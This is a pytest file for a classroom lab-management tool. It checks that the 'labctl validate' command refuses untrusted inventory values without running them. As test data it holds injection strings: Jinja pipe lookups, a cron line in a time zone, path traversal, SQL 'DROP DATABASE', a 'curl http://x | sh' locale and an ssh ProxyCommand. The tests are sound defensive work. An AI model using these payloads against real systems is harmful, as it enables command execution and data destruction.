"""`labctl validate` is the gate for an inventory someone handed over: it runs nothing the
inventory says, and every value that would reach a shell, SQL, cron, systemd, a
configuration file or a path is checked against a strict pattern (one line a problem)."""

import shutil
import stat
from pathlib import Path

import pytest
import yaml

from labctl.cli import main
from labctl.core import paths

VALID = Path(__file__).parent / "inventories" / "valid"


def inventory(tmp_path, extra: dict, where="group_vars/terminals.yml") -> Path:
    inv = tmp_path / "inv"
    shutil.copytree(VALID, inv)
    path = inv / where
    doc = yaml.safe_load(path.read_text()) if path.exists() else {}
    path.write_text(yaml.safe_dump({**(doc or {}), **extra}, allow_unicode=True))
    return inv


def problems(capsys, inv) -> tuple[int, list[str]]:
    code = main(["validate", "-i", str(inv)])
    return code, [line for line in capsys.readouterr().err.splitlines() if " — fix: " in line]


# --------------------------------------------------------------------------- nothing runs

RUNS = {
    "pipe lookup in a variable validate renders": {
        "lab_room_name": "{{ lookup('pipe', 'touch MARKER') }}"},
    "lines lookup in any variable": {"lab_whatever": "{{ lookup('lines', 'touch MARKER') }}"},
    "query of pipe": {"lab_room_name": "{{ query('ansible.builtin.pipe', 'touch MARKER') | first }}"},
    "a lookup name that is computed": {"lab_room_name": "{{ lookup('pi' ~ 'pe', 'touch MARKER') }}"},
    "lookup passed around": {"lab_room_name": "{% set f = lookup %}{{ f('pipe', 'touch MARKER') }}"},
    "a rendered variable that refers to one that runs": {
        "lab_room_name": "{{ lab_other }}", "lab_other": "{{ lookup('pipe', 'touch MARKER') }}"},
}


@pytest.mark.parametrize("case", sorted(RUNS))
def test_a_template_that_could_run_a_command_is_refused_unrendered(tmp_path, capsys, case):
    marker = tmp_path / "ran"
    extra = {k: v.replace("MARKER", str(marker)) for k, v in RUNS[case].items()}
    code, lines = problems(capsys, inventory(tmp_path, extra, "group_vars/all.yml"))
    assert code == 2 and lines, lines
    assert all("refused unrendered" in line and "group_vars/all.yml" in line for line in lines)
    assert not marker.exists(), "validation ran a command from the inventory"


def test_an_inventory_script_is_not_run(tmp_path, capsys):
    marker = tmp_path / "ran"
    inv = inventory(tmp_path, {})
    script = inv / "more.sh"
    script.write_text(f"#!/bin/sh\ntouch {marker}\necho '{{}}'\n")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    code, lines = problems(capsys, inv)
    assert code == 2 and len(lines) == 1 and "executable inventory script" in lines[0], lines
    assert not marker.exists()


def test_the_plain_file_lookup_the_demo_uses_still_works(tmp_path, capsys):
    key = tmp_path / "id.pub"
    key.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE2o4F7mG admin@lab\n")
    inv = inventory(tmp_path, {"lab_common_admin_keys": [f"{{{{ lookup('file', '{key}') }}}}"]})
    assert main(["validate", "-i", str(inv)]) == 0, capsys.readouterr().err


# --------------------------------------------------------------------------- strict values

# case -> (variables in group_vars/terminals.yml, the variable named, words of the message)
BAD = {
    "time zone typo": ({"lab_common_timezone": "Asia/Shangai"}, "lab_common_timezone",
                       "did you mean Asia/Shanghai"),
    "time zone with a cron line": ({"lab_common_timezone": "Asia/Shanghai\n* * * * * root sh /tmp/x"},
                                   "lab_common_timezone", "is not a time zone name"),
    "student that walks out of /home": ({"lab_common_students": [{"name": "../../etc", "password": "x"}]},
                                        "lab_common_students", "is not a student account name"),
    "student with a quote": ({"lab_mysql_students": [{"name": "o'neil", "password": "x"}]},
                             "lab_mysql_students", "is not a student account name"),
    "student with a leading _": ({"lab_reset_students": ["_next"]}, "lab_reset_students",
                                 "is not a student account name"),
    "student whose name begins with another's": (
        {"lab_common_students": [{"name": "stu", "password": "x"}, {"name": "stu_a", "password": "y"}]},
        "lab_common_students", "'stu_a' begins with student 'stu'"),
    "database with a backtick": ({"lab_reset_databases": {"shop`; DROP DATABASE mysql; --": "shop_template"}},
                                 "lab_reset_databases", "is not a student database name"),
    "template with a space": ({"lab_reset_databases": {"shop": "shop template"}},
                              "lab_reset_databases", "is not a template database"),
    "course database": ({"lab_mysql_course_databases": ["shop-2"]}, "lab_mysql_course_databases",
                        "is not a course database name"),
    "apt proxy with a second line": ({"lab_common_apt_proxy": 'http://10.88.0.10:3142";\nAPT::Update::Pre-Invoke {"sh /tmp/x"'},
                                     "lab_common_apt_proxy", "is not an HTTP proxy URL"),
    "ntp server with a newline": ({"lab_common_ntp_servers": ["10.88.0.10\n[Time]"]},
                                  "lab_common_ntp_servers", "is not an NTP server"),
    "admin account": ({"lab_common_admin_user": "root;id"}, "lab_common_admin_user",
                      "is not an account name"),
    "golden-home file outside the home": ({"lab_reset_skel_files": [{"path": "../../etc/cron.d/x", "content": "x"}]},
                                          "lab_reset_skel_files", "is not a path inside a home"),
    "overlayroot setting that runs a command in the initramfs": (
        {"lab_reset_overlayroot": 'tmpfs"; touch /media/root-ro/x; "'},
        "lab_reset_overlayroot", "is not an overlayroot setting"),
    "install disk with a command after it": ({"lab_server_install_disk": "/dev/sda; reboot"},
                                             "lab_server_install_disk", "is not a disk"),
    "host key directory that climbs out": ({"lab_server_hostkey_dir": "/var/lib/../../etc/ssh"},
                                           "lab_server_hostkey_dir", "is not a plain absolute path"),
    "host key directory with nginx syntax": ({"lab_server_hostkey_dir": "/srv/k; autoindex on"},
                                             "lab_server_hostkey_dir", "is not a plain absolute path"),
    "installer console with a kernel option after it": (
        {"lab_server_install_console": "ttyS0 init=/bin/sh"},
        "lab_server_install_console", "is not a console for the installer"),
    "install armed by a string": ({"lab_install": "no"}, "lab_install", "is not true or false"),
    "windows time zone": ({"lab_windows_common_timezone": "China\"; Remove-Item C:\\"},
                          "lab_windows_common_timezone", "is not a Windows time zone name"),
    "desktop language that runs a command in every session": (
        {"lab_desktop_language": "zh_CN.UTF-8; curl http://x | sh"}, "lab_desktop_language",
        "is not a UTF-8 locale"),
    "input method engine with a second profile line": (
        {"lab_desktop_im_engines": ["pinyin\n[Groups/1]"]}, "lab_desktop_im_engines",
        "is not an input method engine's name"),
    "launchers that are not a list": ({"lab_desktop_launchers": 42}, "lab_desktop_launchers",
                                      "42 is not a list"),
    "golden-home files that are not a list": ({"lab_reset_skel_files": 7}, "lab_reset_skel_files",
                                              "7 is not a list"),
    "launcher with a second Exec line": (
        {"lab_desktop_launchers": [{"file": "lab-calc", "name": "表格", "name_en": "Calc",
                                    "exec": "libreoffice --calc\nExec=sh /tmp/x", "icon": "x"}]},
        "lab_desktop_launchers", "is not one line of a launcher (exec)"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_each_unsafe_value_is_one_clear_line(tmp_path, capsys, case):
    extra, variable, words = BAD[case]
    code, lines = problems(capsys, inventory(tmp_path, extra))
    assert code == 2
    assert len(lines) == 1, lines
    assert f": {variable}: " in lines[0] and words in lines[0], lines[0]
    assert "group_vars/terminals.yml" in lines[0] and "host pc0" in lines[0], lines[0]


SWITCH = {
    "port description with a newline": ({"extra_ports": [{"port": 40, "vlan": 10,
                                                          "description": "desk\n vlan 1"}]},
                                        "lab_switch.extra_ports[0].description", "one-line"),
    "port format with a command": ({"port_format": "Gi1/0/{port}\nline vty 0 4"},
                                   "lab_switch.port_format", "is not a port name format"),
    "port format asking for an attribute": ({"port_format": "{port.__class__}"},
                                            "lab_switch.port_format", "is not a port name format"),
}


@pytest.mark.parametrize("case", sorted(SWITCH))
def test_switch_text_is_one_line_of_plain_text(tmp_path, capsys, case):
    change, variable, words = SWITCH[case]
    model = {"name": "sw", "family": "cisco_ios", "ports": 48,
             "vlans": [{"id": 10, "name": "students"}], "uplink": {"port": 48, "vlans": [10]},
             **change}
    code, lines = problems(capsys, inventory(tmp_path, {"lab_switch": model}, "group_vars/all.yml"))
    assert code == 2 and len(lines) == 1, lines
    assert variable in lines[0] and words in lines[0], lines[0]


# --------------------------------------------------------------------------- the room's vault

def demo_vault(inv: Path) -> None:
    shutil.copy(paths.PROJECT / "inventory/demo/group_vars/all/vault.yml", inv / "group_vars/vault.yml")


def test_a_real_room_encrypted_with_the_demo_password_is_refused(tmp_path, capsys, monkeypatch):
    inv = inventory(tmp_path, {})
    demo_vault(inv)
    monkeypatch.setenv("ANSIBLE_VAULT_PASSWORD_FILE", str(paths.DEMO_VAULT_PASSWORD))
    code, lines = problems(capsys, inv)
    assert code == 2 and len(lines) == 2, lines
    assert any("group_vars/vault.yml" in line and "demo's vault password" in line for line in lines)
    assert any("uses the demo's vault password" in line for line in lines)


def test_a_virtual_room_may_use_the_demo_password(tmp_path, capsys, monkeypatch):
    inv = inventory(tmp_path, {"lab_room_virtual": True}, "group_vars/all.yml")
    demo_vault(inv)
    monkeypatch.setenv("ANSIBLE_VAULT_PASSWORD_FILE", str(paths.DEMO_VAULT_PASSWORD))
    assert main(["validate", "-i", str(inv)]) == 0, capsys.readouterr().err


def test_no_room_is_pointed_at_the_demo_password_by_default(tmp_path, monkeypatch):
    monkeypatch.delenv("ANSIBLE_VAULT_PASSWORD_FILE", raising=False)
    assert "vault_password_file" not in (paths.PROJECT / "ansible.cfg").read_text()
    assert paths.vault_password_file(inventory(tmp_path, {})) is None
    assert paths.vault_password_file(paths.DEFAULT_INVENTORY) == paths.DEMO_VAULT_PASSWORD
    school = paths.PROJECT / "inventory/example-school/group_vars/all/vault.yml"
    assert not school.is_symlink() and not school.read_text().startswith("$ANSIBLE_VAULT")


# --------------------------------------------------------------------------- the room's state

STATE_DIRS = {
    "relative": "rooms/b305",
    "with a space (ssh's UserKnownHostsFile would split it)": "/var/lib/labctl/b 305",
    "climbing out": "/var/lib/labctl/../../tmp/b305",
    "a template": "{{ lab_room_name }}",
    "another option smuggled in": "/x -o ProxyCommand=touch",
    "inside the project (shared through git)": str(paths.PROJECT / "state"),
}


@pytest.mark.parametrize("case", sorted(STATE_DIRS))
def test_a_state_directory_that_cannot_hold_the_rooms_secrets_is_refused(tmp_path, capsys, case):
    code, lines = problems(capsys, inventory(tmp_path, {"lab_state_dir": STATE_DIRS[case]},
                                             "group_vars/all.yml"))
    assert code == 2 and len(lines) == 1, lines
    assert "group_vars/all.yml" in lines[0] and "lab_state_dir" in lines[0], lines


def test_a_state_directory_inside_the_inventory_is_refused(tmp_path, capsys):
    inv = tmp_path / "inv"
    code, lines = problems(capsys, inventory(tmp_path, {"lab_state_dir": str(inv / "state")},
                                             "group_vars/all.yml"))
    assert code == 2 and any("lab_state_dir" in line and "shared" in line for line in lines), lines


def test_a_plain_state_directory_is_the_rooms(tmp_path, capsys):
    from labctl.core.inventory import load_room
    inv = inventory(tmp_path, {"lab_state_dir": "/srv/labctl/b305"}, "group_vars/all.yml")
    assert problems(capsys, inv) == (0, [])
    state = load_room(inv).state
    assert (state.admin_key, state.known_hosts, state.facts) == (
        Path("/srv/labctl/b305/ssh/id_ed25519"), Path("/srv/labctl/b305/known_hosts"),
        Path("/srv/labctl/b305/facts"))


def test_a_handed_over_host_key_is_one_ed25519_key_and_labctl_looks_where_the_role_writes():
    """What an installer hands over reaches known_hosts only as "ssh-ed25519 BASE64": a
    second line, a marker (@cert-authority) or another host's pattern is not a key."""
    import yaml

    from labctl.core.enroll import HANDED_KEY, HANDOVER_DIR
    from labctl.core.paths import PROJECT
    defaults = yaml.safe_load((PROJECT / "roles/lab_server/defaults/main.yml").read_text())
    assert defaults["lab_server_hostkey_dir"] == HANDOVER_DIR
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBm1R0Q6TaZc8eA2HuXzv3bD2qCjZ0gA5b7T6e9y8Lx0"
    assert HANDED_KEY.fullmatch(key + " root@pc01\n").group(1) == key
    for bad in (f"@cert-authority * {key}\n", f"{key}\npc02 {key}\n", f"ssh-rsa {key[12:]}\n",
                f"{key} x\ny\n", f"{key}\t@\n"):
        assert not HANDED_KEY.fullmatch(bad), bad
